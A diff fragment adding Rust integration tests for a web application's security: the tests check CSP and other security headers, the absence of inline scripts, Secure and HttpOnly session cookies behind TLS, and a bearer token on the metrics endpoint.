+        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
+        assert!(csp.contains("script-src 'self'"), "{csp}");
+        assert!(!csp.contains("unsafe-inline"), "{csp}");
+        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
+        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
+        assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
+    }
+    // The page itself has no inline script or handler for the policy to break.
+    let page = http()
+        .get(&app.base)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(!page.contains("<script>") && !page.contains(" onload="));
+    app.stop().await;
+}
+
+/// The session cookie is `Secure` when the fair is served over TLS, and not otherwise.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secure_cookie_behind_tls() {
+    let env = TestEnv::new(Engines::Embedded).await;
+    let login = |app: &TestApp| {
+        let url = format!("{}/api/v1/auth/login", app.base);
+        async move {
+            let response = http()
+                .post(url)
+                .json(&json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}))
+                .send()
+                .await
+                .unwrap();
+            response.headers()["set-cookie"]
+                .to_str()
+                .unwrap()
+                .to_string()
+        }
+    };
+    let plain = env.start().await;
+    let cookie = login(&plain).await;
+    assert!(!cookie.contains("Secure"), "{cookie}");
+    plain.stop().await;
+    let tls = env
+        .start_with(|c| c.public_url = Some("https://fair.example.com".into()))
+        .await;
+    let cookie = login(&tls).await;
+    assert!(cookie.contains("; Secure"), "{cookie}");
+    assert!(cookie.contains("HttpOnly"), "{cookie}");
+    tls.stop().await;
+}
+
+/// `/metrics` answers only with the configured bearer token.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn metrics_need_a_token() {
+    let env = TestEnv::new(Engines::Embedded).await;
+    let open = env.start().await;
+    let response = http()
+        .get(format!("{}/metrics", open.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 404, "no token configured: no metrics");
+    open.stop().await;
+    let app = env
+        .start_with(|c| c.metrics_token = Some("scrape-secret".into()))
+        .await;
+    let get = |token: Option<&'static str>| {
+        let url = format!("{}/metrics", app.base);
+        async move {
+            let mut request = http().get(url);
+            if let Some(token) = token {
+                request = request.bearer_auth(token);
+            }
+            request.send().await.unwrap().status().as_u16()
+        }
+    };
+    assert_eq!(get(None).await, 401);
+    assert_eq!(get(Some("wrong")).await, 401);
+    assert_eq!(get(Some("scrape-secret")).await, 200);
+    app.stop().await;
+}
